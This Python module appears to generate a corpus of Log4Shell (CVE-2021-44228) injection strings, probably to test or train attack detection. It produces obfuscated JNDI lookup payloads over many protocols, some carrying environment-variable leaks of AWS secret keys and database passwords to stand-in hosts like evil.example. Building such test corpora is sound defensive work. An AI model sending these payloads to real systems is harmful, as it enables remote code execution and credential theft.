"""Log4Shell (CVE-2021-44228): a `${jndi:...}` lookup that Log4j 2 evaluates when it logs the
value, written with the nested lookups (`${lower:j}`, `${::-n}`, `${env:X:-d}`) it resolves
first, over each JNDI protocol, often leaking an environment variable in the host name."""

from __future__ import annotations

import random

from owncorpus.grammar import Attack, case, draw_distinct, one

CLASS = "log4shell"
PARAMS = ("q", "username", "search", "id", "ref", "lang", "x", "name", "token", "email")

PROTOCOLS = ("ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "http", "nis")
LEAKS = ("", "", "${env:AWS_SECRET_ACCESS_KEY}.", "${sys:java.version}.", "${env:USER}.", "${hostName}.",
         "${java:os}.", "${env:DB_PASSWORD}.")


def _letter(ch: str, rng: random.Random, keep_case: bool) -> str:
    """One letter as a nested lookup that resolves to it (upper-cased only where case does not
    matter: Log4j lower-cases the lookup's prefix, not the JNDI URL scheme)."""
    form = rng.randrange(7)
    if form == 0:
        return "${lower:" + ch.upper() + "}"
    if form == 1 and not keep_case:
        return "${upper:" + ch + "}"
    if form == 2:
        return "${::-" + ch + "}"
    if form == 3:
        return "${env:NOTHING:-" + ch + "}"
    if form == 4:
        return "${date:'" + ch + "'}"
    return ch


def _word(word: str, rng: random.Random, keep_case: bool) -> str:
    if rng.random() < 0.35:
        return word if keep_case else case(word, rng)
    return "".join(_letter(c, rng, keep_case) for c in word)


def _compose(rng: random.Random) -> str:
    proto = one(rng, PROTOCOLS)
    host = one(rng, LEAKS) + one(rng, ("evil.example", "10.0.0.9:1389", "x.oast.example", "127.0.0.1:1099"))
    path = one(rng, ("/a", "/Exploit", "/o=tomcat", "/x", "/Basic/Command/Base64/aWQ="))
    return "${" + _word("jndi", rng, False) + ":" + _word(proto, rng, True) + "://" + host + path + "}"


def attacks(rng: random.Random, n: int) -> list[Attack]:
    return [Attack(CLASS, p, PARAMS) for p in draw_distinct(rng, _compose, n)]
